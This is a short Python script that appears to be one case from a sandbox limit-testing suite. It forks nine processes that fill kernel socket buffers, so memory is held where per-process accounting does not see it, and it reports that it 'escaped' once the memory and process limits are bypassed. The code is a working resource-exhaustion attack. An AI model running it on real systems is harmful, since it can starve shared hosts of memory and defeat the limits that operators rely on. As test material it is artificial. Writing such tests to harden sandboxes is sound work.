# class: exhaustion
# attack: hold the kernel's memory where no process's size shows it: sockets that are full, in many processes
# success: more than 1 GiB is held
# ends: limit.processes, limit.memory
import os
import socket
import time

held = 0
chunk = bytes(1 << 16)
keep = []
for _ in range(8):
    if os.fork() == 0:
        break
try:
    while True:
        for end in socket.socketpair():
            end.setblocking(False)
            keep.append(end)
            try:
                while True:
                    held += end.send(chunk)
            except BlockingIOError:
                pass
except OSError:
    time.sleep(1)
    os.write(1, b"escaped: each of nine processes holds %d MiB in sockets\n" % (held >> 20))
